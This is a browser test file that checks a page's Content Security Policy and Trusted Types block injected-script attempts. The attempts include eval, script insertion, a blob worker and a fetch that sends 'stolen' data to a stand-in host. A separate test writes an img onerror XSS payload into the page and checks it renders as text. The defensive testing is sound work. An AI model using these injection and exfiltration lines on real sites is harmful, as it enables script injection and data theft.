import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, inject } from 'vitest';
import { item, region, see, testStill as test } from './journey.ts';

/**
 * Actions that an injected script might try, each with the browser’s expected refusal. They run in a task of the page,
 * because no policy restricts code that a debugger runs.
 */
const attempts: [what: string, attempt: string, refusal: RegExp][] = [
  ['evaluates a text', `eval('document.title = "run"')`, /TrustedScript|unsafe-eval/],
  ['puts off a text', `setTimeout('document.title = "run"')`, /TrustedScript/],
  [
    'adds a script',
    `document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = "run"' }))`,
    /TrustedScript/,
  ],
  [
    'adds a script of another host',
    `document.body.append(Object.assign(document.createElement('script'), { src: 'https://a.example/x.js' }))`,
    /TrustedScriptURL/,
  ],
  [
    'starts a worker of its own making',
    `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`,
    /TrustedScriptURL/,
  ],
  ['writes a handler', `document.body.setAttribute('onclick', 'document.title = "run"')`, /TrustedScript/],
  ['makes a policy', `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`, /disallowed/],
  [
    'sends words elsewhere',
    `await fetch('https://a.example/?stolen')`,
    /Content Security Policy|Failed to fetch/,
  ],
];

test('a script that got into the page could do nothing with it', async ({ visit }) => {
  const { page, expectComplaint } = await visit();
  await see(region(page)).toBeVisible();
  for (const [what, attempt, refusal] of attempts) {
    const outcome = await page.evaluate(
      `new Promise((done) => setTimeout(async () => {
        try { ${attempt}; done('ran'); } catch (error) { done(String(error)); }
      }))`,
    );
    expect(outcome, what).toMatch(refusal);
  }
  expect(await page.title()).not.toBe('run');
  expectComplaint(/Trusted|Content Security Policy|violates|a\.example/);
});

test('markup that is written into the page is words', async ({ visit }) => {
  const { page, said } = await visit();
  await see(region(page)).toBeVisible();
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="nowhere" onerror="document.title = 1"><b id="bold">',
    );
  });
  await see(page.getByText('<img src="nowhere"')).toBeAttached();
  expect(await page.locator('#bold').count()).toBe(0);
  expect(said).toEqual([]);
});

test('another site may embed the page, and it works there', async ({ arrive }) => {
  const newsroom = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(
      `<!doctype html><title>News</title><link rel="icon" href="data:,"><iframe src="${inject('address')}" width="900" height="600"></iframe>`,
    );
  });
  await new Promise<void>((done) => newsroom.listen(0, '127.0.0.1', done));
  const { page, expectComplaint } = await arrive();
  await page.goto(`http://localhost:${(newsroom.address() as AddressInfo).port}`);
  const frame = page.frameLocator('iframe');
  await item(frame, 'Markaz Abbas').click();
  await see(frame.getByRole('complementary', { name: 'Markaz Abbas' })).toBeVisible();
  expectComplaint(/leaves the host: http:\/\/localhost/);
  newsroom.close();
});
